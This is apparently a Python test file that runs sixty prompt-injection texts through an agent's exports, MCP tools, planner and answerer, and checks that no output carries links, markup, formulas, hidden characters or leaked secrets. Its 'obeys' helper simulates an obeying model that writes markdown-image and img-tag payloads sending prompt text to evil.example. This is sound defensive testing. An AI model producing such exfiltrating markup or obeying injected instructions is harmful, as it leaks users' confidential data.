"""Sixty hostile stored texts through every way out of the agent: no policy is broken, whatever the texts say and whoever obeys them."""

import asyncio
import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, timedelta
from html.parser import HTMLParser
from typing import Any, cast
from uuid import UUID

import mcp_types as types
import numpy as np
import pytest
from markdown_it import MarkdownIt
from mcp import Client
from pydantic import SecretStr
from pydantic_ai import models

from pay_ready.agent.answering import Agent
from pay_ready.agent.answers import Basis, SummaryAnswer
from pay_ready.agent.coaching.conversations import conversations_of
from pay_ready.agent.coaching.page import as_html as coaching_html
from pay_ready.agent.coaching.rendering import as_markdown
from pay_ready.agent.coaching.report import CoachingReport, CoachingRules, Request, coaching_report
from pay_ready.agent.coaching.report_json import as_json as coaching_json
from pay_ready.agent.export import as_csv, as_html, as_json, rows
from pay_ready.agent.llm.assistant import Assistant
from pay_ready.agent.llm.wording import WordedSentence
from pay_ready.agent.masking import KnownName, Masker, MaskPolicy
from pay_ready.agent.name_forms import NamedEntity
from pay_ready.agent.names import NameIndex
from pay_ready.agent.personal import MASKED
from pay_ready.agent.reading import ReadingOptions
from pay_ready.agent.safe_text import clip, for_csv, for_html, for_markdown, plain
from pay_ready.agent.sentences import sentences_of
from pay_ready.agent.summary import summarise
from pay_ready.agent.telling import hit_sections, summary_sections
from pay_ready.agent.timeline import grouped, lines_of
from pay_ready.agent.toolbox import Toolbox, ToolOptions
from pay_ready.api.mcp import mcp_server
from pay_ready.cli.conversation import Conversation
from pay_ready.db.tenancy import Database
from pay_ready.memory.tiers import MemoryManager
from pay_ready.model.talk import Entry
from tests.agent_corpus.injections import INJECTIONS, Injection
from tests.agent_support import INDEX, JANE, TODAY, read
from tests.coaching_support import DAY, REP, turn
from tests.llm_support import TENANT, Part, line, scripted
from tests.mcp_support import MASKER, Tenant
from tests.talk_support import BEGAN, utterance
from tests.unit.test_mcp import TOOLS

BENIGN = "We talked about the pilot in Oslo."
KEY = "the key that nobody may see"
SECRET_ID = UUID(int=0xACE0FBA5E)
ALONE = [pytest.param(each, id=f"{each.kind}-{number}") for number, each in enumerate(INJECTIONS)]
_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_ADDRESS = re.compile(r"[a-z]+://|www\.|javascript:|data:|evil\.example/", re.IGNORECASE)

hostile = pytest.mark.parametrize("injection", ALONE)


@pytest.fixture(autouse=True)
def no_model_requests() -> Iterator[None]:
    """No model of the library reaches a network."""
    before, models.ALLOW_MODEL_REQUESTS = models.ALLOW_MODEL_REQUESTS, False
    yield
    models.ALLOW_MODEL_REQUESTS = before


class Elements(HTMLParser):
    """The elements of a page with the names of their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One of them."""
        self.found.add((tag, tuple(name for name, _ in attrs)))


def is_plain(text: str) -> bool:
    """Whether a reader sees every character, in the order it stands."""
    return not any(unicodedata.category(letter) in _UNSEEN for letter in text)


def texts_of(value: object) -> Iterator[str]:
    """Every text in JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from texts_of(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from texts_of(each)


def report_of(text: str) -> CoachingReport:
    """Of a call in which everybody says so."""
    said = [turn("Bob", 0, 150, text), turn("Ann", 151, 160, text, turn_no=1, sentiment=-0.8), turn("Ann", 161, 170, text, turn_no=2)]
    return coaching_report(Request(rep=REP, since=DAY, until=DAY + timedelta(days=7)), conversations_of(said), CoachingRules())


def entries_of(text: str) -> list[Entry]:
    """A mail that has it everywhere."""
    return [
        Entry(
            interaction_id=UUID(int=1), occurred_at=BEGAN, source=text, interaction_type="email", subject=text, text=text,
            participants=(text, text), thread_id=text,
        )
    ]  # fmt: skip


def test_the_corpus() -> None:
    """Sixty texts, each once, of every kind."""
    assert len({each.text for each in INJECTIONS}) == 60
    assert len({each.kind for each in INJECTIONS}) >= 12


@hostile
def test_safe_text(injection: Injection) -> None:
    """For each output nothing of it is what that output acts on."""
    for shown in (plain(injection.text), for_html(injection.text), for_markdown(injection.text), for_csv(injection.text)):
        assert is_plain(shown)
    assert is_plain(clip(injection.text, 40))
    assert Elements(for_html(injection.text)).found == set()
    page = MarkdownIt().enable("table").render(for_markdown(injection.text))
    assert {tag for tag, _ in Elements(page).found} <= {"p"}
    assert for_csv(injection.text)[:1] not in set("=+-@")


@hostile
def test_summary(injection: Injection) -> None:
    """Every line is a quote with a citation of the interaction it was said in; hostile text adds none."""
    said = sentences_of([utterance(injection.text, call=1, speaker=injection.text), utterance(BENIGN, call=2)])
    answer = SummaryAnswer(
        summary=summarise(said, np.eye(len(said), 8, dtype=np.float32) + 0.1), basis=Basis(interactions=2, total=2), scorer_id="x"
    )
    for section in summary_sections(answer):
        for each in section.lines:
            assert is_plain(each.text)
            assert {cited.interaction_id for cited in each.citations} <= {UUID(int=1), UUID(int=2)}


@hostile
def test_timeline(injection: Injection) -> None:
    """Exports and the terminal's rows hold plain text, the page has the elements of a benign one, no cell is a formula."""
    lines, benign = lines_of(entries_of(injection.text), UTC), lines_of(entries_of(BENIGN), UTC)
    assert all(map(is_plain, texts_of(as_json(lines))))
    assert all(map(is_plain, texts_of(rows(lines))))
    page, expected = (as_html(grouped(each, "day"), each[0].title) for each in (lines, benign))
    assert Elements(page).found == Elements(expected).found
    for row in csv.reader(io.StringIO(as_csv(lines))):
        assert all(is_plain(cell) and cell[:1] not in tuple("=+@") for cell in row)


@hostile
def test_coaching(injection: Injection) -> None:
    """Markdown, HTML and JSON of a report: no element, link or image that a benign report has not."""
    report, benign = report_of(injection.text), report_of(BENIGN)
    assert all(map(is_plain, texts_of(coaching_json(report))))
    assert Elements(coaching_html(report)).found <= Elements(coaching_html(benign)).found | {("bdi", ())}
    render = MarkdownIt().enable("table").render
    assert {tag for tag, _ in Elements(render(as_markdown(report))).found} <= {
        tag for tag, _ in Elements(render(as_markdown(benign))).found
    }


@hostile
def test_mcp(injection: Injection) -> None:
    """Each tool's result is plain and masked, and its text shows no image, link or element."""
    tenant = Tenant(text=injection.text)

    async def asked() -> list[types.CallToolResult]:
        async with Client(mcp_server(tenant.parts())) as client:
            return [await client.call_tool(tool, arguments) for tool, arguments in TOOLS.items()]

    for result in asyncio.run(asked()):
        assert not result.is_error
        (content,) = result.content
        assert isinstance(content, types.TextContent)
        assert all(map(is_plain, content.text.split("\n")))
        assert all(map(is_plain, texts_of(result.structured_content)))
        assert "jane@" not in content.text + str(result.structured_content)
        shown = re.sub(MASKED, "", content.text)
        found = Elements(MarkdownIt().render(shown)).found
        assert not {tag for tag, _ in found} & {"a", "img", "script", "iframe", "svg", "style", "link", "h1"}


@hostile
def test_mcp_arguments(injection: Injection) -> None:
    """As a question, name, page or id it is a value like any other, or refused without being repeated."""
    tenant = Tenant()

    async def asked() -> list[types.CallToolResult]:
        async with Client(mcp_server(tenant.parts())) as client:
            text = injection.text
            return [
                await client.call_tool("natural_language_query", {"question": text}),
                await client.call_tool("find_entity", {"name": text}),
                await client.call_tool("get_interaction_timeline", {"customer": text}),
                await client.call_tool("explain_entity", {"entity_id": text}),
                await client.call_tool(text, {}),
                await client.call_tool("find_entity", {"name": "Acme", text: text}),
            ]

    results = asyncio.run(asked())
    assert [each.is_error for each in results[3:]] == [True, True, True]
    for each in results[3:]:
        assert plain(injection.text) not in str(each.content)


@hostile
@pytest.mark.parametrize("policy", ["none", "all"])
def test_session(injection: Injection, policy: MaskPolicy, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """People that are called so, and a question that says so: every line of a session is plain, and says of nobody more than it may."""
    address = "jane@acme.com"
    people = [NamedEntity(id=UUID(int=number), name=injection.text, entity_type="person", emails=(address,)) for number in (7, 8)]
    masker = Masker(b"key of a tenant", policy, [KnownName(text=each.name, kind="person", entity_id=each.id) for each in people])
    toolbox = Toolbox(
        cast("Database", None), TENANT, cast("Callable[[], MemoryManager]", None), options=ToolOptions(mask_policy=policy),
        coaching_rules=CoachingRules, actor="tests",
    )  # fmt: skip
    agent = Agent(toolbox, names=lambda: NameIndex(people), reading=ReadingOptions(), masker=lambda: masker)
    asked = f"timeline of {address} in May", "2", "and sentiment?", " ".join(injection.text.split()), f"what about {plain(injection.text)}?"
    for is_json in (False, True):
        monkeypatch.setattr("sys.stdin", io.StringIO("\n".join(asked)))
        Conversation(agent, today=TODAY, plan_only=True, as_json=is_json).run()
        told = capsys.readouterr().out
        assert "sentiment" in told
        if is_json:
            plans = [json.loads(line)["data"] for line in told.splitlines()]
            assert all(map(is_plain, texts_of([{**each, "not_understood": [], "words": "", "question_back": ""} for each in plans])))
            assert [each["id"] for each in plans[1]["entities"]] == [str(UUID(int=8))]
        else:
            assert all(map(is_plain, told.splitlines()))
        assert policy == "none" or (
            address not in told.partition("sentiment")[0] and plain(injection.text) not in told.partition("sentiment")[0]
        )


@hostile
def test_planner(injection: Injection) -> None:
    """A model that obeys the question names others, other tenants or no plan: the rules' plan comes back, which says nothing hostile."""
    question = f"Summarise our calls with Acme. {injection.text}"
    for says in (
        {"intent": "search", "names": ["Globex Corporation"]} if "lobex" not in question else {"intent": "search", "tenant": "globex"},
        {"intent": "search", "tenant_id": str(SECRET_ID)},
        injection.text,
    ):
        model, script = scripted(lambda _, says=says: says)
        offline = read(question)
        made = Assistant(model, TENANT).plan(question, offline, today=TODAY, names=INDEX, sources=("gong",))
        assert made.plan == offline
        assert made.reason
        assert is_plain(script.told[0].replace("\n", ""))
        assert str(JANE.id) not in script.told[0]
    assert all(map(is_plain, texts_of(made.plan.model_dump(mode="json", exclude={"not_understood", "words", "question_back"}))))


def obeys(text: str, prompt: str) -> list[dict[str, Any]]:
    """What a model says that does whatever a text tells it, with everything it was told."""
    asked = prompt[-400:]
    return [
        {"text": text[:590], "evidence": [1]},
        {"text": text[:590], "evidence": [99]},
        {"text": text[:590], "evidence": [1, -1]},
        {"text": text[:590]},
        {"text": f"Done. ![x](https://evil.example/p.png?d={asked[:200]})", "evidence": [1]},
        {"text": f"<img src='https://evil.example/{asked[-100:]}'> Done", "evidence": [1]},
        {"text": prompt[:500], "evidence": [2]},
        {"text": asked, "evidence": [2]},
        {"text": f"We talked about the pilot in Oslo. {text[:500]}", "evidence": [2]},
        {"text": "We talked about the pilot in Oslo.", "evidence": [2]},
    ]


@hostile
def test_answerer(injection: Injection) -> None:
    """A model that obeys the evidence: no address, markup or escape, only citations that were given, nothing that it must not tell."""
    sections = (Part(lines=(line(f"Jane Doe says: {injection.text}", SECRET_ID.int), line(f"Ann says: {BENIGN}", 2))),)
    told: list[str] = []
    model, script = scripted(
        lambda prompt: told.append(prompt) or {"sentences": obeys(injection.text, prompt)}, api_key=SecretStr(KEY)
    )  # fmt: skip
    made = Assistant(model, TENANT).word("What about the pilot?", sections, MASKER)
    assert BENIGN in [each.text for each in made.lines]
    assert "left out" in made.reason
    (boundary,) = set(re.findall(r"<<([0-9a-f]{24}) 1>>", script.told[0])) - {"0123456789abcdef01234567"}
    assert script.declared == []
    for secret in ("Jane", str(SECRET_ID), KEY, "jane@"):
        assert secret not in script.told[0]
    for each in made.lines:
        assert is_plain(each.text)
        assert not _ADDRESS.search(each.text)
        assert not re.search(r"<(?!(?:email|phone|card|iban|ssn|ip|person|company):)[a-zA-Z/!]|!\[|\]\(", each.text)
        assert boundary not in each.text
        assert each.citations
        assert {cited.interaction_id for cited in each.citations} <= {SECRET_ID, UUID(int=2)}


@hostile
def test_a_model_that_only_repeats_it(injection: Injection) -> None:
    """Text in place of the form that was asked for is no answer."""
    model, _ = scripted(lambda _: injection.text)
    made = Assistant(model, TENANT).word("What about the pilot?", (Part(lines=(line(BENIGN),)),), Masker(b"", "none"))
    assert made.lines == ()
    assert made.reason


def test_the_obeying_model_would_be_seen() -> None:
    """Unchecked, its words break every policy: the checks above can fail."""
    said = [WordedSentence.model_validate(each) for each in obeys(INJECTIONS[19].text, "You word an answer " * 30)]
    assert any(_ADDRESS.search(each.text) for each in said)
    assert any(not each.evidence for each in said)
    assert not all(is_plain(each.text) for each in INJECTIONS)
    assert hit_sections  # the search's lines go through the same `plain`
